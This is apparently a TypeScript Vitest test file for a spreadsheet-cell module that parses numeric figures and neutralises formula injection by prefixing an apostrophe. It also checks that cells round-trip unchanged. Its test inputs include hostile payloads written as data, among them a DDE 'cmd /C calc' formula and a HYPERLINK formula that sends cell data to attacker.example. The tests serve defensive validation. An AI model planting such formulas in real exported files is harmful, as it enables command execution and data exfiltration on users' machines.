import { expect, test } from "vitest";
import { beforeHarmless, harmless, readFigure } from "#domain/stats/cellText.ts";

test.each([
  ["82,500.00", { figure: "82500", unit: "" }],
  ["82,50,000.50", { figure: "8250000.5", unit: "" }],
  ["75,000.00 KG", { figure: "75000", unit: "KG" }],
  ["3,000 BAGS", { figure: "3000", unit: "BAGS" }],
  ["-12.5", { figure: "-12.5", unit: "" }],
  [" 7 ", { figure: "7", unit: "" }],
])("%j shows a figure", (cell, figure) => {
  expect(readFigure(cell)).toEqual(figure);
});

test.each([
  "",
  "In bulk",
  "10 MT + 5 KG",
  "12/11/2025",
  "TV/EXP/042",
  "1,2,3",
  "1,0000",
  "5 6",
  "12e3",
  "1.2.3",
  "0,125",
  "-0,125 KG",
  "1.234,56",
  "9".repeat(16),
])("%j shows none (R-1240)", (cell) => {
  expect(readFigure(cell)).toBeNull();
});

test.each([
  "=1+1",
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "-",
  "+919876543210",
  // Arithmetic in the clothes of a figure with its unit.
  "-1 *cmd|' /C calc'!A0",
  '-1 -HYPERLINK("https://attacker.example?"&A1)',
  "-1 &A1",
  "-5 KG(A1)",
  "-5 A1",
  // Spreadsheets with Chinese or Japanese settings read the full width, too.
  "＝1",
  "＋1",
  "－1",
  "＠SUM(A1)",
])("%j is made harmless", (cell) => {
  expect(harmless(cell)).toBe(`'${cell}`);
});

test.each([
  ["PO 7;=1+1", "PO 7;'=1+1"],
  ["PO 7;-5;-5 A1", "PO 7;-5;'-5 A1"],
  ["=1;=2", "'=1;'=2"],
  ["\r=1", "'\r'=1"],
  ["\n=1", "'\n'=1"],
  ["two lines\r\n@SUM(A1)", "two lines\r\n'@SUM(A1)"],
])("%j is made harmless where a semicolon or a line break begins another cell: %j", (cell, safe) => {
  expect(harmless(cell)).toBe(safe);
  expect(beforeHarmless(safe)).toBe(cell);
});

test.each([
  "'1",
  "it's;'fine",
  "'",
  "'=1",
  "''=1",
  "'-5.00",
  "'-5 A1",
  "'\t",
  "'\n",
  "''\r\n'=1",
  "a;'@x;''+1",
  "\n;'=1",
  "'＝1",
  "'+91 98",
])("%j has an apostrophe that was typed, and keeps it on its way through a file (R-1173)", (cell) => {
  expect(beforeHarmless(harmless(cell))).toBe(cell);
});

test("every text of signs that mean something comes back through a file as it was (R-1173)", () => {
  const signs = ["'", "=", "-", "5", ";", "\n", "\r", "\t", " "];
  let cells = [""];
  for (let length = 1; length <= 4; length += 1) {
    cells = cells.flatMap((cell) => signs.map((sign) => cell + sign));
    expect(cells.filter((cell) => beforeHarmless(harmless(cell)) !== cell)).toEqual([]);
  }
});

test.each(["", "82,500.00", "-12.50", "-5 KG", "-5 Metric tons", "-12,500.00 बैग", "a=b", " =1"])("%j is harmless as it is", (cell) => {
  expect(harmless(cell)).toBe(cell);
});
